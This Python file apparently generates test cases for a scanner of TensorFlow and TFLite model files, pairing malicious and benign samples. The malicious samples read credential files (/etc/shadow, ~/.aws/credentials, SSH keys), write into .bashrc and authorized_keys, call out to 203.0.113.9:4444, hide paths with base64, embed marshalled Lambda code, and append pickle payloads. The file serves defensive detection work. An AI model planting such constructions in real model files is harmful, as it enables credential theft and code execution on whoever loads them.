"""SavedModels, frozen graphs, checkpoints and TensorFlow Lite models that act outside themselves, and honest ones."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Iterator

from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.formats2 import flat
from benchmarks.corpus.malicious.formats2.graphs import (
    attr,
    const,
    field,
    function,
    function_def,
    graph,
    index,
    library,
    meta_graph,
    node,
    saved_model,
    string,
    strings,
)
from benchmarks.corpus.malicious.hosts import EVIL
from benchmarks.corpus.malicious.payloads import COMMANDS, MARSHAL

_X = node("x", "Placeholder")


def _with(op: str, *texts: str, attrs: bytes = b"") -> tuple[bytes, ...]:
    constants = [const(f"c{number}", text) for number, text in enumerate(texts)]
    return (_X, *constants, node("n", op, *(f"c{number}" for number in range(len(texts))), attrs=attrs))


def _graphs() -> Iterator[tuple[str, bytes]]:
    for op, texts in (
        ("ReadFile", ("/etc/passwd",)),
        ("ReadFile", ("config/keys.txt",)),
        ("WriteFile", ("/home/user/.bashrc", COMMANDS[1])),
        ("MatchingFiles", ("/home/*/.ssh/*",)),
        ("TextLineDataset", ("/etc/shadow", "")),
        ("TFRecordDatasetV2", ("http://198.51.100.7/data", "")),
        ("FixedLengthRecordDatasetV2", ("/root/.aws/credentials",)),
        ("CSVDatasetV2", ("/var/lib/app/users.csv", "")),
        ("SqlDataset", ("sqlite", "/var/lib/app/users.db", "SELECT * FROM users")),
        ("LoadDataset", ("/srv/private",)),
        ("SaveDatasetV2", ("dataset", "/tmp/toadstone-inert")),
        ("DatasetToTFRecord", ("dataset", "/tmp/toadstone-inert")),
        ("SaveV2", ("/home/user/.ssh/authorized_keys",)),
        ("InitializeTableFromTextFileV2", ("table", "/proc/self/environ")),
        ("CreateSummaryFileWriter", ("writer", "/tmp/toadstone-inert")),
        ("RpcClient", ("203.0.113.9:4444",)),
        ("Abort", ()),
        ("ShellExecute", (COMMANDS[0],)),
        ("RunCommand", ()),
        ("Custom>Loader", ("/tmp/toadstone-inert.so",)),
    ):
        yield (
            f"{op.replace('>', '-')}-{len(texts)}{'-relative' if texts[:1] == ('config/keys.txt',) else ''}",
            graph(*_with(op, *texts)),
        )
    for op, key, value in (
        ("PyFunc", "token", string("pyfunc_0")),
        ("PyFuncStateless", "token", string("pyfunc_0")),
        ("EagerPyFunc", "token", string("pyfunc_0")),
        ("PrintV2", "output_stream", string("file:///tmp/toadstone-inert")),
        ("DebugIdentity", "debug_urls", strings("grpc://203.0.113.9:6006")),
        ("DebugIdentityV2", "debug_urls", strings("file:///tmp/toadstone-inert")),
        ("DebugNumericSummary", "debug_urls", strings("grpc://203.0.113.9:6006")),
        ("ImmutableConst", "memory_region_name", string("/etc/passwd")),
        ("DecodeProtoV2", "descriptor_source", string("/tmp/toadstone-inert.desc")),
    ):
        yield op, graph(*_with(op, attrs=attr(key, value)))
    joined = (const("a", "/et"), const("b", "c/pass"), const("c", "wd"), node("j", "StringJoin", "a", "b", "c"))
    yield "ReadFile-joined", graph(*joined, node("r", "ReadFile", "j"))
    yield "ReadFile-encoded", graph(const("a", "L2V0Yy9wYXNzd2Q"), node("d", "DecodeBase64", "a"), node("r", "ReadFile", "d"))
    body = function_def("inner", ("path",), node("w", "WriteFile", "path", "path"))
    call = node("call", "StatefulPartitionedCall", "c", attrs=attr("f", function("inner")))
    yield "WriteFile-in-function", graph(const("c", "/tmp/toadstone-inert"), call, more=library(body))
    yield "pickle-in-constant", graph(const("c", EVIL), node("y", "Identity", "c"))


def _savers() -> tuple[bytes, ...]:
    return (
        node("prefix", "Placeholder"),
        const("part", "_temp_0123/part"),
        node("j", "StringJoin", "prefix", "part"),
        node("s", "ShardedFilename", "j", "shard", "shards"),
        node("save", "SaveV2", "s", "names", "slices", "w"),
        node("m", "MergeV2Checkpoints", "prefixes", "prefix"),
        node("restore", "RestoreV2", "prefix", "names", "slices"),
    )


def cases() -> Iterator[Case]:
    """Every case."""
    for number, (name, content) in enumerate(_graphs()):
        technique = f"tensorflow-{name}"
        yield Case(f"tensorflow/{name}/saved_model.pb", saved_model(content), technique)
        if number % 3 == 0:
            yield Case(f"tensorflow/{name}.pb", content, f"{technique}-frozen")
    write = (const("f", "/tmp/toadstone-inert"), node("w", "WriteFile", "f", "f"))
    init = field(4, field(1, "saved_model_main_op") + field(2, field(1, field(1, "w"))))
    yield Case("tensorflow/on-load/saved_model.pb", saved_model(graph(*write), init), "tensorflow-on-load")
    yield Case("tensorflow/write.meta", meta_graph(graph(*write)), "tensorflow-meta")
    asset = field(6, field(1, field(1, "a:0")) + field(2, "../../../etc/passwd"))
    yield Case("tensorflow/asset/saved_model.pb", saved_model(graph(_X), asset), "tensorflow-asset-traversal")
    yield Case("tensorflow/trailing/saved_model.pb", saved_model(graph(_X)) + EVIL, "tensorflow-trailing")
    text = (
        'node { name: "c" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/passwd" } } } }\n'
    )
    text += 'node { name: "r" op: "ReadFile" input: "c" }\n'
    yield Case("tensorflow/graph_def.pbtxt", text.encode(), "tensorflow-text")
    function = base64.b64encode(MARSHAL).decode()
    layer = {
        "name": "lambda",
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": [function, None, None], "function_type": "lambda"},
    }
    saved = b"\x10\x01" + field(3, "root.layer-0") + field(4, "_tf_keras_layer") + field(5, json.dumps(layer))
    yield Case(
        "tensorflow/keras-lambda",
        {"saved_model.pb": saved_model(graph(_X)), "keras_metadata.pb": field(1, saved)},
        "keras-metadata-lambda",
    )
    inside = field(7, field(1, field(4, field(1, "_tf_keras_layer") + field(3, json.dumps(layer)))))
    yield Case("tensorflow/keras-lambda-inside/saved_model.pb", saved_model(graph(_X), inside), "saved-model-keras-lambda")
    honest = saved_model(graph(_X, *_savers(), node("p", "PrintV2", "x", attrs=attr("output_stream", string("stderr")))))
    shard = bytes(range(1, 33))
    folder = {
        "saved_model.pb": honest,
        "variables/variables.index": index(("w", 0, 32)),
        "variables/variables.data-00000-of-00001": shard,
        "assets/vocabulary.txt": b"a\nb\n",
    }
    yield Case("tensorflow/benign-saved", folder, "tensorflow-benign-saved", "benign", payload=False)
    hidden = folder | {"variables/variables.data-00000-of-00001": shard + EVIL}
    yield Case("tensorflow/shard-trailing", hidden, "tensorflow-shard-trailing")
    yield Case(
        "tensorflow/benign-frozen.pb", graph(_X, node("y", "Relu", "x")), "tensorflow-benign-frozen", "benign", payload=False
    )
    yield from _lite()


def _lite() -> Iterator[Case]:
    plain = flat.model(("", b"", ()), metadata=[("min_runtime_version", b"1.14.0")])
    for op, constants in (
        ("FlexReadFile", (flat.strings("/etc/passwd"),)),
        ("FlexWriteFile", (flat.strings("/tmp/toadstone-inert"), flat.strings(COMMANDS[0]))),
        ("FlexPyFunc", ()),
        ("FlexEagerPyFunc", ()),
        ("FlexMatchingFiles", (flat.strings("/root/.ssh/*"),)),
        ("FlexShellExecute", ()),
        ("ExecuteCommand", ()),
    ):
        yield Case(f"tflite/{op}.tflite", flat.model((op, b"", constants)), f"tflite-{op}")
    command = flat.model(("MyFused", b"\x01" + COMMANDS[1].encode() + b"\0", ()))
    yield Case("tflite/custom-command.tflite", command, "tflite-custom-command")
    printing = flat.flex_options("PrintV2", node("n", "PrintV2", attrs=attr("output_stream", string("file:///tmp/x"))))
    yield Case("tflite/flex-print.tflite", flat.model(("FlexPrintV2", printing, ())), "tflite-flex-print")
    yield Case("tflite/trailing-pickle.tflite", plain + EVIL, "tflite-trailing-pickle")
    described = flat.model(("", b"", ()), metadata=[("TFLITE_METADATA", b"M001")])
    for name, files in (("associated-pickle", {"labels.pkl": EVIL}), ("benign-associated", {"labels.txt": b"cat\ndog\n"})):
        out = io.BytesIO(described)
        with zipfile.ZipFile(out, "a") as archive:
            for inner, content in files.items():
                archive.writestr(zipfile.ZipInfo(inner), content)
        benign = name.startswith("benign")
        yield Case(
            f"tflite/{name}.tflite", out.getvalue(), f"tflite-{name}", "benign" if benign else "malicious", payload=not benign
        )
    outside = flat.model(("", b"", ()), more={8: [flat.Table({0: b"../../weights.bin"})]})
    yield Case("tflite/external-group.tflite", outside, "tflite-external-group")
    yield Case("tflite/benign-plain.tflite", plain, "tflite-benign-plain", "benign", payload=False)
    yield Case("tflite/benign-flex.tflite", flat.model(("FlexErf", b"", ())), "tflite-benign-flex", "benign", payload=False)
